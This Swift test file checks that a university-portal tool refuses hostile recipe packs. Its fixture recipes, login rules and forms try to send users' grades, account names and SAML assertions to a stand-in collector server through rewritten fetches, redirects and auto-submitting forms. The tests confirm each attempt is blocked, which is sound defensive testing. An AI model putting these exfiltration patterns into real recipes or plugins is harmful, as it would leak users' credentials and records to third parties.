import DemoUniversity
import Foundation
import Testing
import UniToolKit
import UniToolTestSupport

/// Recipe packs that try every way out of their portal, through the catalog and the service in
/// process: each sends a request that a recipe causes (fetch, read, next, an option's resolve, an
/// action, a redirect, the terms check) towards a listener on another loopback address, which
/// must see no connection at all; an untrusted pack's command is refused by the catalog. What
/// only the binary shows (`recipes lint`, `list`, `trust` and `untrust` output, password and code
/// commands, the keyring) stays in EndToEndTests/HostilePackTests.
@Suite("A recipe pack reaches only its portal's origins, through the catalog and the service")
struct PackTrustServiceTests {
    /// The demo's grades recipe with `edit` applied: the command a pack would slip in.
    func grades(_ edit: (String) -> String) throws -> String {
        edit(try String(contentsOf: Fixtures.recipes.appendingPathComponent("demo/grades.yaml"), encoding: .utf8))
    }

    func text(_ error: UniToolError?) -> String { "\(error?.message ?? "") \(error?.hint ?? "")" }

    @Test("a trusted pack's demo commands that point fetch, read, next, resolve or an action elsewhere send nothing there")
    func everyWayOutOfTheDemo() async throws {
        let packs = try Sandbox()
        defer { packs.remove() }
        let collector = try RecordingHTTPServer(host: "127.0.0.9") { _ in .status(200, body: "<p>stolen</p>") }
        defer { collector.stop() }
        let away = collector.baseURL.absoluteString
        // Each command of the pack, and the word its refusal names.
        let commands: [(command: String, text: String, kind: String)] = [
            (
                "grades",
                try grades { $0.replacingOccurrences(of: "fetch: /grades?term={{term}}", with: "fetch: \(away)/steal?term={{term}}") },
                "'fetch'"
            ),
            (
                "grades-read",
                try grades {
                    $0.replacingOccurrences(of: "command: grades", with: "command: grades-read")
                        .replacingOccurrences(
                            of: "fetch: /grades?term={{term}}",
                            with: "read:\n  code: { fetch: \"\(away)/read?term={{term}}\", xpath: \"//p\" }\nfetch: /grades?term={{term}}"
                        )
                },
                "'read'"
            ),
            (
                "grades-next",
                try grades {
                    $0.replacingOccurrences(of: "command: grades", with: "command: grades-next")
                        .replacingOccurrences(
                            of: "fetch: /grades?term={{term}}",
                            with: "fetch: /grades?term={{term}}\nnext: \"concat('\(away)/next?code=', //td[@class='code'])\"")
                },
                "'next'"
            ),
            (
                "grades-resolve",
                try grades {
                    $0.replacingOccurrences(of: "command: grades", with: "command: grades-resolve")
                        .replacingOccurrences(of: "current: { fetch: /grades,", with: "current: { fetch: \"\(away)/resolve\",")
                },
                "'resolve'"
            ),
            (
                "renew-elsewhere",
                """
                command: renew-elsewhere
                summary: Loans, and a renewal that reads its form elsewhere
                fetch: /library/loans
                rows: "//table[@id='loans']/tbody/tr"
                fields:
                  barcode: { xpath: "td[@class='barcode']", required: true, key: true }
                actions:
                  renew:
                    summary: Renew a loan
                    argument: barcode
                    fetch: "\(away)/renew?barcode={{barcode}}"
                    form: "//form"
                    success_when: "//p"
                """,
                "action"
            ),
        ]
        var files: [String: String] = [:]
        for entry in commands { files["demo/\(entry.command).yaml"] = entry.text }
        let pack = try packs.writePack(files)
        // Trusted, so that the origin policy, not the trust check, is what stops them.
        let bench = try DemoServiceBench(packs: [pack], trust: try DemoServiceBench.trusting([pack]))
        defer { bench.remove() }
        try await DemoUniversity.withRunning { demo in
            for entry in commands {
                let recipe = try bench.recipe(entry.command)
                let renew = recipe.actions.first { $0.name == "renew" }
                let error = await #expect(throws: UniToolError.self, "\(entry.command)") {
                    if let renew {
                        _ = try await bench.withService(on: demo) { service, _ in
                            try await service.perform(renew, of: recipe, argument: "31000101", interaction: ScriptedInteraction())
                        }
                    } else {
                        // Every term for grades: 'current' is read from the selector's page, which
                        // shows its records (shows_records), so the recipe's own address would not be asked for.
                        _ = try await bench.run(entry.command, entry.command == "grades" ? ["term": "all"] : [:], on: demo)
                    }
                }
                #expect(error?.kind == .unsafeRequest, "\(entry.command): \(text(error))")
                #expect(text(error).contains("refusing to send a request to \(away)"), "\(entry.command): \(text(error))")
                #expect(text(error).contains(entry.kind), "\(entry.command) names what asked: \(text(error))")
            }
            #expect(collector.connections == 0, "the collector saw \(collector.connections) connections: \(collector.requests.map(\.path))")
            // The user's own grades still work beside the pack's refused ones.
            let own = try DemoServiceBench()
            defer { own.remove() }
            let grades = try await own.run("grades", on: demo)
            #expect(!grades.records.isEmpty)
        }
    }

    @Test("without trust, a pack's command for a portal it does not define is refused, naming both files and what to do")
    func untrustedCommandIsRefused() async throws {
        let packs = try Sandbox()
        defer { packs.remove() }
        let pack = try packs.writePack(
            [
                "demo/grades.yaml": try grades { $0 },
                "demo/loan-status.yaml": try grades { $0.replacingOccurrences(of: "command: grades", with: "command: loan-status") },
            ])
        let bench = try DemoServiceBench(packs: [pack])
        defer { bench.remove() }
        let grades = #expect(throws: UniToolError.self) { _ = try bench.recipe("grades") }
        #expect(grades?.kind == .unsafeRequest, "\(text(grades))")
        #expect(text(grades).contains(pack.appendingPathComponent("demo/grades.yaml").path), "the pack's file: \(text(grades))")
        #expect(text(grades).contains("Recipes/demo/grades.yaml"), "the file it would replace: \(text(grades))")
        #expect(text(grades).contains("Recipes/demo/portal.yaml"), "the portal's definition: \(text(grades))")
        #expect(text(grades).contains("unitool recipes trust"), "\(text(grades))")
        let added = #expect(throws: UniToolError.self) { _ = try bench.recipe("loan-status") }
        #expect(added?.kind == .unsafeRequest, "\(text(added))")
        #expect(text(added).contains("adds 'loan-status' to portal 'demo'"), "\(text(added))")
        // The bundled commands the pack does not touch are still there.
        #expect(throws: Never.self) { _ = try bench.recipe("courses") }

        // Trusted, the pack's command is the one that runs.
        let trusted = try DemoServiceBench(packs: [pack], trust: try DemoServiceBench.trusting([pack]))
        defer { trusted.remove() }
        #expect(try trusted.recipe("grades").file == pack.appendingPathComponent("demo/grades.yaml").path)
    }

    @Test("a portal of the pack's own whose POST a 307 sends elsewhere, or whose services and terms point elsewhere, sends nothing there")
    func redirectServiceAndTerms() async throws {
        let packs = try Sandbox()
        defer { packs.remove() }
        let collector = try RecordingHTTPServer(host: "127.0.0.9") { _ in .status(200, body: "<p>stolen</p>") }
        defer { collector.stop() }
        let away = collector.baseURL.absoluteString
        // The pack's own portal: a form POST answered with a 307 to the collector.
        let server = try RecordingHTTPServer(host: "127.0.0.1") { request in
            if request.method == "POST" { return .status(307, headers: ["Location": "\(away)/collect"]) }
            return .status(200, body: "<html><body><table id='t'><tr><td>A</td></tr></table></body></html>")
        }
        defer { server.stop() }
        let base = server.baseURL.absoluteString
        let pack = try packs.writePack(
            [
                "hostile/portal.yaml": """
                portal: hostile
                name: Hostile University
                base_url: \(base)
                credentials_may_go_to: [portal]
                login: { pages: [{ name: form, when: "//form[@id='login']", fill: { u: "{{username}}" } }] }

                """,
                "hostile/post.yaml": """
                command: post
                summary: A search that the portal redirects
                login: false
                options: { q: { default: "grade-A" } }
                fetch: /search
                method: post
                form: { q: "{{q}}" }
                rows: "//tr"
                fields: { cell: { xpath: td } }
                """,
                "hostile/service.yaml": """
                command: service
                summary: A service the portal does not declare
                login: false
                service: collector
                fetch: /
                rows: "//tr"
                fields: { cell: { xpath: td } }
                """,
                "termsy/portal.yaml": """
                portal: termsy
                name: Terms elsewhere
                base_url: \(base)
                credentials_may_go_to: [portal]
                login: { pages: [{ name: form, when: "//form[@id='login']", fill: { u: "{{username}}" } }] }
                terms: { version_api: "\(away)/terms", version_field: version }

                """,
                "termsy/table.yaml": """
                command: table
                summary: A table
                login: false
                fetch: /
                rows: "//tr"
                fields: { cell: { xpath: td } }
                """,
            ])
        // A service that is not declared is refused when the recipes are read.
        let service = #expect(throws: UniToolError.self) { _ = try RecipeCatalog(directories: [Fixtures.recipes], packs: [pack]) }
        #expect(service?.kind == .recipeInvalid, "\(text(service))")
        #expect(text(service).contains("service: 'collector' is not a service of portal 'hostile'"), "\(text(service))")
        try FileManager.default.removeItem(at: pack.appendingPathComponent("hostile/service.yaml"))

        let bench = try DemoServiceBench(packs: [pack])
        defer { bench.remove() }
        func run(_ command: String, portal id: String) async throws {
            let recipe = try bench.recipe(command, portal: id)
            let request = try bench.request(command, portal: id)
            _ = try await bench.withService(for: try bench.catalog.portal(id), user: "x") { service, _ in
                try await service.execute(request, of: recipe, interaction: Unattended())
            }
        }
        let post = await #expect(throws: UniToolError.self) { try await run("post", portal: "hostile") }
        #expect(post?.kind == .unsafeRequest, "\(text(post))")
        #expect(text(post).contains("refusing to send a request to \(away)"), "\(text(post))")
        #expect(server.requests.contains { $0.method == "POST" && $0.body == "q=grade-A" }, "the portal had the POST")

        let terms = await #expect(throws: UniToolError.self) { try await run("table", portal: "termsy") }
        #expect(terms?.kind == .unsafeRequest, "\(text(terms))")
        #expect(text(terms).contains("terms of use"), "\(text(terms))")
        #expect(collector.connections == 0, "the collector saw \(collector.requests.map(\.path))")
    }

    @Test("login rules that follow an address built from the page send nothing to another origin, trusted or not")
    func loginRulesStayOnTheLoginsOrigins() async throws {
        let packs = try Sandbox()
        defer { packs.remove() }
        let collector = try RecordingHTTPServer(host: "127.0.0.9") { _ in .status(200, body: "<p>thanks</p>") }
        defer { collector.stop() }
        let away = collector.baseURL.absoluteString
        // A rule ahead of the demo's own: the trusted redefinition sends the user's name and her
        // grades away from the grades page once the login is over; the untrusted pack's own
        // portal sends the unused SAML assertion away.
        let gradesRule = """
              pages:
                - name: grades
                  when: "//table[@id='grades']"
                  follow: "concat('\(away)/g?who=', string(//span[@class='account']), '&grades=', string(//table[@id='grades']))"
                  after_login: true

            """
        let assertionRule = """
              pages:
                - name: assertion
                  when: "//form[.//input[@name='SAMLResponse']]"
                  follow: "concat('\(away)/a?r=', //input[@name='SAMLResponse']/@value)"

            """
        let bundled = try String(contentsOf: Fixtures.recipes.appendingPathComponent("demo/portal.yaml"), encoding: .utf8)
        let redefinition = bundled.replacingOccurrences(of: "  pages:\n", with: gradesRule)
        #expect(redefinition != bundled)
        try await DemoUniversity.withRunning { demo in
            let origin = demo.baseURL.absoluteString.trimmingCharacters(in: CharacterSet(charactersIn: "/"))
            let ownPortal = bundled.replacingOccurrences(of: "  pages:\n", with: assertionRule)
                .replacingOccurrences(of: "portal: demo\n", with: "portal: mine\n")
                .replacingOccurrences(of: "demo: true\n", with: "").replacingOccurrences(of: "http://127.0.0.1:0", with: origin)
            let grades = try String(contentsOf: Fixtures.recipes.appendingPathComponent("demo/grades.yaml"), encoding: .utf8)
            let trustedPack = try packs.writePack(["demo/portal.yaml": redefinition])
            let ownPack = try packs.writePack(["mine/portal.yaml": ownPortal, "mine/grades.yaml": grades])
            let trusted = try DemoServiceBench(packs: [trustedPack], trust: try DemoServiceBench.trusting([trustedPack]))
            defer { trusted.remove() }
            let error = await #expect(throws: UniToolError.self) { _ = try await trusted.run("grades", on: demo) }
            #expect(error?.kind == .unsafeRequest, "\(text(error))")
            #expect(text(error).contains("refusing to follow login rule"), "\(text(error))")

            let untrusted = try DemoServiceBench(packs: [ownPack])
            defer { untrusted.remove() }
            try untrusted.sandbox.acceptTerms(portal: "mine", version: DemoUniversity.initialTermsVersion)
            let own = await #expect(throws: UniToolError.self) {
                _ = try await untrusted.withService(for: try untrusted.catalog.portal("mine"), user: "alice", password: "wonderland") {
                    service, _ in
                    try await service.execute(
                        try untrusted.request("grades", portal: "mine"), of: try untrusted.recipe("grades", portal: "mine"),
                        interaction: Unattended())
                }
            }
            #expect(own?.kind == .unsafeRequest, "\(text(own))")
            #expect(text(own).contains("refusing to follow login rule"), "\(text(own))")
        }
        #expect(collector.connections == 0, "the collector saw \(collector.requests.map(\.path))")
    }

    @Test("a login form whose action another origin holds, or an auto-submitting one, sends nothing there")
    func loginFormsStayOnTheLoginsOrigins() async throws {
        let packs = try Sandbox()
        defer { packs.remove() }
        let collector = try RecordingHTTPServer(host: "127.0.0.9") { _ in .status(200, body: "<p>thanks</p>") }
        defer { collector.stop() }
        let away = collector.baseURL.absoluteString
        // The portal's page carries forms that point away (as a page a pack's rule chooses may):
        // one to fill in with the user's name, one that posts itself.
        let server = try RecordingHTTPServer(host: "127.0.0.1") { request in
            .status(
                200,
                body: """
                    <html><body>
                    <form id="login" method="post" action="\(away)/who"><input name="u"><button name="go">Go</button></form>
                    <form id="auto" method="post" action="\(away)/auto"><input type="hidden" name="grades" value="A"></form>
                    </body></html>
                    """)
        }
        defer { server.stop() }
        for (name, rule) in [
            ("fill", #"{ name: form, when: "//form[@id='login']", fill: { u: "{{username}}" }, submit: ".//button[@name='go']" }"#),
            ("auto", #"{ name: form, when: "//form[@id='auto']", auto_submit: true }"#),
        ] {
            let pack = try packs.writePack([
                "away-\(name)/portal.yaml": """
                portal: away-\(name)
                name: Away
                base_url: \(server.baseURL.absoluteString)
                credentials_may_go_to: [portal]
                login: { pages: [\(rule)] }

                """,
                "away-\(name)/page.yaml": """
                command: page
                summary: A page behind the login
                fetch: /
                rows: "//tr"
                fields: { cell: { xpath: td } }
                """,
            ])
            let bench = try DemoServiceBench(packs: [pack])
            defer { bench.remove() }
            let error = await #expect(throws: UniToolError.self, "\(name)") {
                _ = try await bench.withService(for: try bench.catalog.portal("away-\(name)"), user: "alice") { service, _ in
                    try await service.execute(
                        try bench.request("page", portal: "away-\(name)"), of: try bench.recipe("page", portal: "away-\(name)"),
                        interaction: Unattended())
                }
            }
            #expect(error?.kind == .unsafeRequest, "\(name): \(text(error))")
            #expect(text(error).contains("refusing to follow login rule 'form' to \(collector.baseURL.origin)"), "\(name): \(text(error))")
        }
        #expect(collector.connections == 0, "the collector saw \(collector.requests.map(\.path))")
    }
}
